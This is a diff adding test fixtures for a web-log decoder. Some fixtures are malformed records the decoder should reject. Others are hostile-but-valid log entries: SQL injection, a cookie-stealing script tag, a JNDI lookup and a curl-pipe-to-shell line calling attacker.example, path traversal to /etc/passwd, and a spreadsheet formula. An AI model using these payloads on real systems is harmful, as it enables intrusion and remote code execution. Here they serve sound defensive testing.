@@ -85,6 +85,73 @@ export function badWebLogRecords(): BadRecord[] {
     { name: 'oversize user_agent', value: json({ ...good, user_agent: 'A'.repeat(5000) }), reason: DecodeFailure.contractViolation },
     { name: 'duplicate key', value: Buffer.from(goodText.replace('{', '{"status_code":500,')), reason: DecodeFailure.duplicateKey },
     { name: 'nested object as url', value: json({ ...good, url: { path: '/' } }), reason: DecodeFailure.contractViolation },
+    {
+      // The broker's default message.max.bytes is 1,048,588; the dead letter keeps the value whole.
+      name: 'value near the broker maximum message size',
+      value: json({ ...good, url: `/${'x'.repeat(1_040_000)}` }),
+      reason: DecodeFailure.oversize,
+    },
+    {
+      name: 'deeply nested JSON (10,000 levels)',
+      value: Buffer.from(`${'{"a":'.repeat(10000)}1${'}'.repeat(10000)}`),
+      reason: DecodeFailure.contractViolation,
+    },
+    { name: 'deeply nested array', value: Buffer.from(`${'['.repeat(30000)}${']'.repeat(30000)}`), reason: DecodeFailure.notAnObject },
+    { name: 'JSON null', value: Buffer.from('null'), reason: DecodeFailure.notAnObject },
+    { name: 'JSON number', value: Buffer.from('12345'), reason: DecodeFailure.notAnObject },
+    { name: 'empty object', value: Buffer.from('{}'), reason: DecodeFailure.contractViolation },
+    { name: 'whitespace only', value: Buffer.from(' \n\t '), reason: DecodeFailure.invalidJson },
+    { name: 'trailing comma', value: Buffer.from(goodText.replace(/}$/, ',}')), reason: DecodeFailure.invalidJson },
+    {
+      name: 'NaN literal',
+      value: Buffer.from(goodText.replace('"status_code":200', '"status_code":NaN')),
+      reason: DecodeFailure.invalidJson,
+    },
+    { name: 'overlong UTF-8 encoding', value: Buffer.from([0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x7d]), reason: DecodeFailure.invalidUtf8 },
+    { name: 'UTF-8 encoded surrogate', value: Buffer.from([0x7b, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x7d]), reason: DecodeFailure.invalidUtf8 },
+    { name: 'NUL byte in user_agent', value: json({ ...good, user_agent: 'curl\u0000/8.0' }), reason: DecodeFailure.contractViolation },
+    { name: 'ANSI escape in user_agent', value: json({ ...good, user_agent: '\u001b[31mred' }), reason: DecodeFailure.contractViolation },
+    { name: 'C1 control (NEL) in url', value: json({ ...good, url: '/a\u0085b' }), reason: DecodeFailure.contractViolation },
+    { name: 'negative status_code', value: json({ ...good, status_code: -200 }), reason: DecodeFailure.contractViolation },
+    { name: 'status_code as boolean', value: json({ ...good, status_code: true }), reason: DecodeFailure.contractViolation },
+    { name: 'impossible date', value: json({ ...good, timestamp: '2026-02-30T10:00:00Z' }), reason: DecodeFailure.contractViolation },
+    { name: 'event_id not a UUID', value: json({ ...good, event_id: 'not-a-uuid' }), reason: DecodeFailure.contractViolation },
+    { name: 'lower-case method', value: json({ ...good, method: 'get' }), reason: DecodeFailure.contractViolation },
+    {
+      name: 'absolute URL instead of a path',
+      value: json({ ...good, url: 'http://evil.example/' }),
+      reason: DecodeFailure.contractViolation,
+    },
+    { name: 'url over 2,048 characters', value: json({ ...good, url: `/${'a'.repeat(2048)}` }), reason: DecodeFailure.contractViolation },
+    {
+      name: 'prototype pollution key',
+      value: Buffer.from(goodText.replace('{', '{"__proto__":{"admin":true},')),
+      reason: DecodeFailure.contractViolation,
+    },
+    {
+      name: '1,000 extra fields',
+      value: json({ ...good, ...Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`f${i}`, i])) }),
+      reason: DecodeFailure.contractViolation,
+    },
+  ];
+}
+
+/**
+ * Hostile but valid: attack strings are what real access logs are full of, and a log pipeline
+ * must carry them as data, byte for byte (upper-cased), never interpret or drop them.
+ */
+export function hostileWebLogs(): { name: string; value: WebLog }[] {
+  return [
+    { name: 'SQL injection in url', value: aWebLog({ url: "/search?q=1' OR '1'='1'; DROP TABLE logs;--" }) },
+    { name: 'script tag in user_agent', value: aWebLog({ user_agent: '<script>alert(document.cookie)</script>' }) },
+    { name: 'JNDI lookup in user_agent', value: aWebLog({ user_agent: '${jndi:ldap://attacker.example/a}' }) },
+    { name: 'path traversal in url', value: aWebLog({ url: '/../../../../etc/passwd%00.png' }) },
+    { name: 'shell substitution in user_agent', value: aWebLog({ user_agent: '() { :; }; $(curl -s attacker.example | sh)' }) },
+    { name: 'spreadsheet formula in url', value: aWebLog({ url: '/=HYPERLINK("http://attacker.example","x")' }) },
+    { name: 'quotes and backslashes in url', value: aWebLog({ url: '/a\\"b\\\\c\'d' }) },
+    { name: 'bidi override and zero-width space in url', value: aWebLog({ url: '/invoice\u202egnp.exe\u200b' }) },
+    { name: 'emoji in user_agent', value: aWebLog({ user_agent: 'Bot 🤖/1.0 (𝔘𝔫𝔦𝔠𝔬𝔡𝔢)' }) },
+    { name: 'IPv6 client', value: aWebLog({ ip: '2001:db8::7' }) },
   ];
 }
 
